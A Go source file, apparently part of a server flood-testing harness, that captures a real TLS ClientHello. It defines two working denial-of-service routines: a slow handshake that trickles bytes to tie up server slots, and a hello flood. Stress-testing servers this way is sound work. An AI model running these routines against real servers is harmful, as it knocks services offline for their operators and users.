//go:build linux

package floods

import (
	"bytes"
	"crypto/tls"
	"io"
	"net"
	"sync"
	"time"
)

// hello is a ClientHello as Go's own client sends it, in one record.
var hello = sync.OnceValue(func() []byte {
	client, server := net.Pipe()
	defer server.Close()
	go func() {
		// It ends with the pipe: nobody answers.
		_ = tls.Client(client, &tls.Config{ServerName: "localhost", NextProtos: []string{"h2", "http/1.1"}}).Handshake()
		client.Close()
	}()
	record := make([]byte, 4096)
	n, err := server.Read(record)
	if err != nil {
		return nil
	}
	return bytes.Clone(record[:n])
})

// Half a ClientHello, a byte of the rest now and then: a handshake that costs a place and never ends.
func halfHello(a *attacker) {
	text := hello()
	if _, err := a.conn.Write(text[:len(text)/2]); err != nil {
		return
	}
	a.frames++
	closed := make(chan struct{})
	go func() {
		defer close(closed)
		_, _ = io.Copy(io.Discard, a.conn)
	}()
	for _, b := range text[len(text)/2 : len(text)-1] {
		select {
		case <-closed:
			return
		case <-time.After(100 * time.Millisecond):
		}
		if _, err := a.conn.Write([]byte{b}); err != nil {
			return
		}
	}
	<-closed
}

// A whole ClientHello, and gone when the answer comes: the victim has signed for nothing.
func helloFlood(a *attacker) {
	if _, err := a.conn.Write(hello()); err != nil {
		return
	}
	a.frames++
	one := make([]byte, 1)
	_, _ = a.conn.Read(one)
}
